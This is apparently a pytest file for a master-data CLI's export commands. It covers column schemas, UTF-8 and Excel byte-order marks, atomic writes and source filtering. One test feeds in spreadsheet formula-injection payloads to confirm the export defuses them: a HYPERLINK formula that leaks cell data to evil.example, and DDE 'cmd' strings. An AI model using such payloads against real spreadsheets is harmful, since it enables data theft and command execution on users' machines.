"""Exports keep one shape whatever the data holds: a downstream load must not break on a quiet day."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import json
import resource
import signal
import subprocess
import sys
import unicodedata
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
from typer.testing import CliRunner

from mdm.cli import app
from mdm.store import database

runner = CliRunner()

# The packaged rules' survivorship attributes, in their order; all_emails and all_phones collect all.
ATTRIBUTES = ["full_name", "email", "phone", "date_of_birth", "address", "city", "postcode", "country",
              "company", "tax_id", "national_id", "all_emails", "all_phones"]
COLUMNS = ["golden_id", "record_count", "sources", *ATTRIBUTES, "created_at", "updated_at"]


def _export(db: Path, out: Path) -> None:
    result = runner.invoke(app, ["export", "golden", "--db", str(db), "--out", str(out)])
    assert result.exit_code == 0, result.output


def test_golden_export_has_the_rules_columns_and_types_without_records_or_values(tmp_path: Path) -> None:
    db = tmp_path / "mdm.duckdb"
    database.connect(db).close()
    _export(db, tmp_path / "none.csv")
    _export(db, tmp_path / "none.parquet")
    assert (tmp_path / "none.csv").read_text(encoding="utf-8").splitlines() == [
        ",".join(f'"{c}"' for c in COLUMNS)]
    empty = pq.read_schema(tmp_path / "none.parquet")

    # One record whose postcode and all_emails no source filled: still text, and a list of text.
    attrs = dict.fromkeys(ATTRIBUTES) | {"full_name": "Nguyễn An", "all_phones": ["+84912345678"]}
    con = database.connect(db)
    at = dt.datetime(2026, 6, 30, 12)
    con.execute("INSERT INTO golden_records (golden_id, status, attributes, record_count, sources,"
                " created_at, updated_at) VALUES ('G1', 'active', ?, 1, ['crm'], ?, ?)",
                [json.dumps(attrs), at, at])
    con.close()
    _export(db, tmp_path / "one.parquet")
    _export(db, tmp_path / "one.csv")
    one = pq.read_table(tmp_path / "one.parquet")
    assert one.schema == empty and one.column_names == COLUMNS
    assert one.schema.field("postcode").type == pa.string()
    assert one.schema.field("all_emails").type == pa.list_(pa.string())
    assert one.to_pylist()[0]["all_phones"] == ["+84912345678"]
    with (tmp_path / "one.csv").open(encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert list(row) == COLUMNS and row["full_name"] == "Nguyễn An" and row["postcode"] == ""
    # Times are UTC and say so: a reader in another zone must not take them for its own.
    assert one.schema.field("created_at").type == pa.timestamp("us", tz="UTC")
    assert one.to_pylist()[0]["created_at"] == at.replace(tzinfo=dt.UTC)
    assert row["created_at"] == row["updated_at"] == "2026-06-30 12:00:00.000000Z"


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path: Path) -> None:
    """A value a source sent (a name, a city, a quarantined row's key) that starts like a formula is
    written after a "'" so that a spreadsheet opening the export shows it instead of running it;
    phones stay, and so do the cross-reference's keys, which programs map."""
    db = tmp_path / "mdm.duckdb"
    attacks = {"full_name": '=HYPERLINK("http://evil.example/?d="&B2,"Click")',
               "city": "-2+3+cmd|' /C calc'!A0", "company": "@SUM(1+1)*cmd|' /C calc'!A0",
               "address": "+cmd|' /C calc'!A0", "postcode": "\t=1+1"}
    phones = {"phone": "+84912345678", "all_phones": ["+84912345678", "+84 987 654 321"], "tax_id": "-0101"}
    con = database.connect(db)
    at = dt.datetime(2026, 6, 30, 12)
    con.execute("INSERT INTO golden_records (golden_id, status, attributes, record_count, sources,"
                " created_at, updated_at) VALUES ('G1', 'active', ?, 1, ['crm'], ?, ?)",
                [json.dumps(dict.fromkeys(ATTRIBUTES) | attacks | phones), at, at])
    con.execute("INSERT INTO xref VALUES ('crm', '=1+1', 'crm:=1+1', 'G1', 'r1')")
    con.execute("INSERT INTO quarantine VALUES ('r1', 'crm', 7, '@A1', 'line 7 has 2 fields', '=cmd|x,1')")
    con.close()
    _export(db, tmp_path / "golden.csv")
    for kind in ("xref", "quarantine"):
        done = runner.invoke(app, ["export", kind, "--db", str(db), "--out", str(tmp_path / f"{kind}.csv")])
        assert done.exit_code == 0, done.output

    with (tmp_path / "golden.csv").open(encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert {k: row[k] for k in attacks} == {k: "'" + v for k, v in attacks.items()}
    assert row["phone"] == "+84912345678" and row["all_phones"] == "+84912345678; +84 987 654 321"
    assert row["tax_id"] == "-0101"  # a number
    with (tmp_path / "xref.csv").open(encoding="utf-8") as fh:
        assert list(csv.DictReader(fh))[0]["source_id"] == "=1+1"  # a key, for programs: exactly
    with (tmp_path / "quarantine.csv").open(encoding="utf-8") as fh:
        quarantined = list(csv.DictReader(fh))[0]
    assert (quarantined["source_id"], quarantined["raw"]) == ("'@A1", "'=cmd|x,1")


# One customer's values in each script our stewards' extracts hold, one of them decomposed (NFD, as
# macOS and some CRMs write Vietnamese), and a character outside the Basic Multilingual Plane.
SCRIPTS = {"full_name": "Nguyễn Thị Ánh Tuyết", "company": "شركة الرياض للتجارة", "city": "İstanbul",
           "address": "ul. Żółkiewskiego 3, Łódź", "tax_id": "🎉",
           "postcode": unicodedata.normalize("NFD", "Phường Bến Nghé"),
           "all_phones": ["+84912345678", "+966501234567"], "all_emails": ["çağrı@örnek.tr"]}


def _one_golden(db: Path, attrs: dict[str, object]) -> None:
    con = database.connect(db)
    at = dt.datetime(2026, 6, 30, 12)
    con.execute("INSERT INTO golden_records (golden_id, status, attributes, record_count, sources,"
                " created_at, updated_at) VALUES ('G1', 'active', ?, 1, ['crm'], ?, ?)",
                [json.dumps(dict.fromkeys(ATTRIBUTES) | attrs), at, at])
    con.close()


def test_golden_csv_for_excel_begins_with_the_utf8_byte_order_mark(tmp_path: Path) -> None:
    """Excel opens a UTF-8 CSV without a byte-order mark in the machine's code page: a steward saw
    "Nguyá»…n" for "Nguyễn". `--excel` writes the mark (as Excel's own "CSV UTF-8" does) before the
    same bytes; without it, the file a program loads has none. Parquet has no such option."""
    db = tmp_path / "mdm.duckdb"
    _one_golden(db, SCRIPTS)
    plain, excel = tmp_path / "golden.csv", tmp_path / "excel.csv"
    _export(db, plain)
    done = runner.invoke(app, ["export", "golden", "--db", str(db), "--out", str(excel), "--excel"])
    assert done.exit_code == 0, done.output
    assert not plain.read_bytes().startswith(codecs.BOM_UTF8)
    assert excel.read_bytes() == codecs.BOM_UTF8 + plain.read_bytes()
    with excel.open(encoding="utf-8-sig", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert list(row) == COLUMNS and row["full_name"] == "Nguyễn Thị Ánh Tuyết"
    assert row["postcode"] == SCRIPTS["postcode"] and row["all_phones"] == "+84912345678; +966501234567"
    refused = runner.invoke(app, ["export", "golden", "--db", str(db), "--out", str(tmp_path / "g.parquet"),
                                  "--excel"])
    assert refused.exit_code == 2 and "--excel" in refused.output
    assert not (tmp_path / "g.parquet").exists()


def test_the_other_csv_exports_for_excel_begin_with_the_byte_order_mark(
    reconciled: tuple[Path, object], tmp_path: Path
) -> None:
    """The cross-reference, the quarantine and the flagged records (their raw rows hold the names
    as sources wrote them) take `--excel` too: DuckDB's COPY writes no mark, so it was written
    before the same bytes; without `--excel` none."""
    db = reconciled[0]
    for command in ("xref", "quarantine", "flagged"):
        plain, excel = tmp_path / f"{command}.csv", tmp_path / f"{command}-excel.csv"
        for out, more in ((plain, []), (excel, ["--excel"])):
            done = runner.invoke(app, ["export", command, "--db", str(db), "--out", str(out), *more])
            assert done.exit_code == 0, done.output
        assert plain.read_bytes().startswith(b"source,"), command
        assert excel.read_bytes() == codecs.BOM_UTF8 + plain.read_bytes(), command


def test_golden_parquet_gives_back_every_script_exactly(tmp_path: Path) -> None:
    """Read back by pyarrow and by DuckDB, the Parquet export holds each value as stored: no
    normalisation (the NFD postcode stays NFD), no character lost outside the BMP, lists as lists."""
    db = tmp_path / "mdm.duckdb"
    _one_golden(db, SCRIPTS)
    _export(db, tmp_path / "golden.parquet")
    (row,) = pq.read_table(tmp_path / "golden.parquet").to_pylist()
    assert {k: row[k] for k in SCRIPTS} == SCRIPTS
    con = duckdb.connect()
    (read,) = con.execute(f"SELECT {', '.join(SCRIPTS)} FROM read_parquet(?)",
                          [str(tmp_path / "golden.parquet")]).fetchall()
    con.close()
    assert dict(zip(SCRIPTS, read, strict=True)) == SCRIPTS


def test_csv_exports_write_csv_whatever_the_file_is_named(
    reconciled: tuple[Path, object], small_sample: Path, tmp_path: Path
) -> None:
    """DuckDB's COPY took the format from the name: `--out xref.parquet` (or .json) was a
    traceback refusing the CSV header option (`mdm evaluate --pairs`: blamed on the truth file)."""
    db = reconciled[0]
    for command, header in (("xref", "source,source_id,golden_id"),
                            ("quarantine", "source,row_number,source_id,reason,raw"),
                            ("flagged", "source,source_id,flags,raw")):
        for name in (f"{command}.parquet", f"{command}.json"):
            result = runner.invoke(app, ["export", command, "--db", str(db), "--out", str(tmp_path / name)])
            assert result.exit_code == 0, result.output
            assert (tmp_path / name).read_text(encoding="utf-8").splitlines()[0] == header
    result = runner.invoke(app, ["evaluate", "--db", str(db), "--truth", str(small_sample / "truth.csv"),
                                 "--pairs", str(tmp_path / "wrong.parquet")])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "wrong.parquet").read_text(encoding="utf-8").startswith("error,stage,source_l,")


def _disk_full_at_20kb() -> None:
    """In a child process before it runs: a file cannot grow past 20 KB, as on a disk that fills."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # the write fails instead of killing the process
    resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))


def test_an_export_that_cannot_finish_leaves_the_previous_file(
    reconciled: tuple[Path, object], tmp_path: Path
) -> None:
    """A full disk stopped `mdm export golden` after it had emptied the previous export and
    written part of the new one: a nightly copy that missed the exit code loaded half the customers."""
    out = tmp_path / "golden.csv"
    out.write_text("the previous export\n", encoding="utf-8")
    code = "import sys; from mdm.cli import main; sys.argv = ['mdm'] + sys.argv[1:]; main()"
    command = [sys.executable, "-c", code, "export", "golden", "--db", str(reconciled[0]), "--out", str(out)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, preexec_fn=_disk_full_at_20kb)
    assert done.returncode == 2 and "cannot write it" in done.stderr, done.stderr
    assert out.read_text(encoding="utf-8") == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["golden.csv"]  # no partial file either


def test_an_export_through_a_link_writes_the_linked_file(
    reconciled: tuple[Path, object], tmp_path: Path
) -> None:
    """An export is put in place once whole: through a link, in the linked file's place."""
    linked, link = tmp_path / "xref-2026-12.csv", tmp_path / "xref.csv"
    linked.write_text("the previous export\n", encoding="utf-8")
    link.symlink_to(linked)
    result = runner.invoke(app, ["export", "xref", "--db", str(reconciled[0]), "--out", str(link)])
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and linked.read_text(encoding="utf-8").startswith("source,source_id,golden_id")


def test_previous_export_writes_the_stored_records_of_the_sources_named_and_every_id(
    reconciled: tuple[Path, object], tmp_path: Path
) -> None:
    """`mdm export previous` wrote every stored record of every source, though a Spark run reads
    only its `extract: changes` sources' (at a million records, most of the folder). `--source`
    (repeated, or with commas) writes those alone, and says so in the report; the ids are all
    written; a source the database stores no records of exits 2 naming it and the known ones."""
    db = reconciled[0]

    def export(out: Path, *options: str):  # type: ignore[no-untyped-def]
        return runner.invoke(app, ["export", "previous", "--db", str(db), "--out", str(out), *options])

    def read(out: Path, table: str) -> pa.Table:
        return pq.read_table(out / table)

    assert export(tmp_path / "all").exit_code == 0
    for options in (["--source", "billing,sales"], ["--source", "sales", "--source", " billing"]):
        out = tmp_path / f"some{len(options)}"
        done = export(out, *options)
        assert done.exit_code == 0, done.output
        everything = read(tmp_path / "all", "source_records")
        assert sorted(set(read(out, "source_records")["source"].to_pylist())) == ["billing", "sales"]
        assert read(out, "source_records").num_rows == sum(
            s in ("billing", "sales") for s in everything["source"].to_pylist()) > 0
        for table in ("xref", "xref_departed", "golden_records"):
            assert read(out, table).equals(read(tmp_path / "all", table))
        report = json.loads((out / "report" / "part-00000").read_text(encoding="utf-8"))
        assert report["stored_records_of"] == ["billing", "sales"]
    assert "stored_records_of" not in json.loads((tmp_path / "all" / "report" / "part-00000").read_text())

    unknown = ("--source: no source named 'crm' stores records"
               " (the sources: billing, marketing, sales, shipping)")
    for option, said in (("billing,crm", unknown),
                         ("billing,", "--source: a source name is empty")):
        done = export(tmp_path / "refused", "--source", option)
        assert done.exit_code == 2, done.output
        assert said in " ".join(done.output.split())
        assert not (tmp_path / "refused").exists()
